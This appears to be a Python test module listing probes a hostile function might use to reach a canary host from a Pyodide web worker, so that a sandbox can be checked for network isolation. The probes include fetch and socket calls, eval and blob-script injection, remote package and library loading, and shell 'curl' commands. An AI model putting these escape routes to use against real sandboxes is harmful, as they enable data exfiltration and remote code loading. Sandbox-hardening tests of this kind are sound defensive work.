"""What a hostile function may try from the compute worker to reach the world.

Each probe is Python source; `HTTP`, `WS` and `HOST`, `PORT` name the canary, `run_script(text)`
runs JavaScript by every way that a worker has of turning a blob into a script.
"""

from __future__ import annotations

PRELUDE = """
import asyncio, js, pyodide_js, sys
from pyodide.ffi import to_js
from js import Object

def obj(**fields):
    return to_js(fields, dict_converter=Object.fromEntries)

def blob_url(text):
    return js.URL.createObjectURL(js.Blob.new(to_js([text]), obj(type="text/javascript")))

def run_script(text):
    js.importScripts(blob_url(text))
"""

PROBES: dict[str, str] = {
    # The obvious ways.
    "fetch": "js.fetch(HTTP)",
    "fetch no-cors": "js.fetch(HTTP, obj(mode='no-cors'))",
    "fetch Request": "js.fetch(js.Request.new(HTTP))",
    "fetch keepalive": "js.fetch(HTTP, obj(keepalive=True, method='POST'))",
    "self.fetch": "js.self.fetch(HTTP)",
    "globalThis.fetch": "js.globalThis.fetch(HTTP)",
    "fetch of the prototype": "js.WorkerGlobalScope.prototype.fetch.call(js.self, HTTP)",
    "fetch of a walked prototype": (
        "p = js.self\n"
        "while p is not None:\n"
        "    d = Object.getOwnPropertyDescriptor(p, 'fetch')\n"
        "    if d is not None: d.value.call(js.self, HTTP)\n"
        "    p = Object.getPrototypeOf(p)\n"
    ),
    "XMLHttpRequest": "x = js.XMLHttpRequest.new(); x.open('GET', HTTP); x.send()",
    "XMLHttpRequest, synchronous": (
        "x = js.XMLHttpRequest.new(); x.open('GET', HTTP, False); x.send()"
    ),
    "WebSocket": "js.WebSocket.new(WS)",
    "WebSocketStream": "js.WebSocketStream.new(WS)",
    "WebTransport": "js.WebTransport.new(HTTPS)",
    "EventSource": "js.EventSource.new(HTTP)",
    "sendBeacon": "js.navigator.sendBeacon(HTTP, 'x')",
    "fetchLater": "js.fetchLater(HTTP)",
    "RTCPeerConnection": (
        "p = js.RTCPeerConnection.new(obj(iceServers=[obj(urls=f'stun:{HOST}:{PORT}')]))\n"
        "p.createDataChannel('x'); p.setLocalDescription()"
    ),
    "FontFace": "js.FontFace.new('x', f'url({HTTP})').load()",
    "self.fonts": "f = js.FontFace.new('x', f'url({HTTP})'); js.self.fonts.add(f); f.load()",
    "OffscreenCanvas font": (
        "c = js.OffscreenCanvas.new(1, 1).getContext('2d'); c.filter = f'url({HTTP}#x)'"
    ),
    "Notification": "js.Notification.new('x', obj(icon=HTTP, image=HTTP))",
    # Scripts from elsewhere, and other threads.
    "importScripts": "js.importScripts(HTTP)",
    "importScripts of a data URL": "js.importScripts(f'data:text/javascript,fetch(\"{HTTP}\")')",
    "importScripts of a blob": "run_script(f'fetch(\"{HTTP}\")')",
    "a blob's WebSocket": "run_script(f'new WebSocket(\"{WS}\")')",
    "a blob's import()": "run_script(f'import(\"{HTTP}\")')",
    "a blob's import() of a blob": (
        "inner = blob_url(f'import \"{HTTP}\"')\nrun_script(f'import(\"{inner}\")')"
    ),
    "a blob's XMLHttpRequest": (
        'run_script(f\'const x = new XMLHttpRequest(); x.open("GET", "{HTTP}"); x.send()\')'
    ),
    "Worker": "js.Worker.new(HTTP)",
    "Worker of a blob": "js.Worker.new(blob_url(f'fetch(\"{HTTP}\")'))",
    "Worker of a blob, WebSocket": "js.Worker.new(blob_url(f'new WebSocket(\"{WS}\")'))",
    "Worker of a blob, importScripts": "js.Worker.new(blob_url(f'importScripts(\"{HTTP}\")'))",
    "Worker of a blob, module": (
        "js.Worker.new(blob_url(f'import \"{HTTP}\"'), obj(type='module'))"
    ),
    "Worker of a blob, import()": "js.Worker.new(blob_url(f'import(\"{HTTP}\")'))",
    "SharedWorker": "js.SharedWorker.new(HTTP)",
    "SharedWorker of a blob": "js.SharedWorker.new(blob_url(f'fetch(\"{HTTP}\")'))",
    "ServiceWorker": "js.navigator.serviceWorker.register(HTTP)",
    "eval": "js.eval(f'fetch(\"{HTTP}\")')",
    "Function": "js.Function.new(f'fetch(\"{HTTP}\")')()",
    "a function's constructor": "js.self.atob.constructor(f'fetch(\"{HTTP}\")')()",
    "setTimeout with text": "js.setTimeout(f'fetch(\"{HTTP}\")', 0)",
    "run_js": "from pyodide.code import run_js; run_js(f'fetch(\"{HTTP}\")')",
    # Places to store things, and other pages to tell them to.
    "IndexedDB": "js.indexedDB.open('x')",
    "Cache API": "js.caches.open('x')",
    "Cache API, add": "js.caches.open('x').then(lambda cache: cache.add(HTTP))",
    "BroadcastChannel": "js.BroadcastChannel.new('x').postMessage(HTTP)",
    "origin-private files": "js.navigator.storage.getDirectory()",
    "cookieStore": "js.cookieStore.set('x', 'y')",
    "localStorage": "js.localStorage.setItem('x', 'y')",
    # Through Pyodide and Emscripten.
    "pyodide.http.pyfetch": (
        "from pyodide.http import pyfetch; asyncio.ensure_future(pyfetch(HTTP))"
    ),
    "pyodide.http.open_url": "from pyodide.http import open_url; open_url(HTTP)",
    "pyodide.loadPackage": "pyodide_js.loadPackage(HTTP + '/x-1-py3-none-any.whl')",
    "micropip": "import micropip; asyncio.ensure_future(micropip.install(HTTP))",
    "createLazyFile": (
        "pyodide_js._module.FS.createLazyFile('/', 'lazy', HTTP, True, False); open('/lazy').read()"
    ),
    "createPreloadedFile": (
        "pyodide_js._module.FS.createPreloadedFile('/', 'pre', HTTP, True, False)"
    ),
    "loadDynamicLibrary": (
        "pyodide_js._module.loadDynamicLibrary(HTTP + '/x.so', obj(loadAsync=True))"
    ),
    "emscripten_run_script": (
        "import ctypes; ctypes.CDLL(None).emscripten_run_script(f'fetch(\"{HTTP}\")'.encode())"
    ),
    "emscripten_async_wget": (
        "import ctypes; ctypes.CDLL(None).emscripten_async_wget(HTTP.encode(), b'/x', 0, 0)"
    ),
    # Through Python's own library.
    "urllib": "import urllib.request; urllib.request.urlopen(HTTP, timeout=1)",
    "http.client": (
        "import http.client; c = http.client.HTTPConnection(HOST, PORT, timeout=1)\n"
        "c.request('GET', '/')"
    ),
    "socket": ("import socket; s = socket.create_connection((HOST, PORT), 1); s.send(b'hello')"),
    "UDP socket": (
        "import socket; s = socket.socket(type=socket.SOCK_DGRAM); s.sendto(b'x', (HOST, PORT))"
    ),
    "getaddrinfo": "import socket; socket.getaddrinfo('canary.invalid', PORT)",
    "asyncio": "asyncio.ensure_future(asyncio.open_connection(HOST, PORT))",
    "smtplib": "import smtplib; smtplib.SMTP(HOST, PORT, timeout=1)",
    "ftplib": "import ftplib; ftplib.FTP().connect(HOST, PORT, timeout=1)",
    "xmlrpc": "import xmlrpc.client; xmlrpc.client.ServerProxy(HTTP).ping()",
    "os.system": "import os; assert os.system(f'curl {HTTP}') == 0",
    "subprocess": "import subprocess; subprocess.run(['curl', HTTP], check=True)",
    "webbrowser": "import webbrowser; assert webbrowser.open(HTTP)",
    # Pretending to be the worker's own script.
    "a forged message to the page": "js.self.postMessage(obj(type='fetch', url=HTTP))",
}
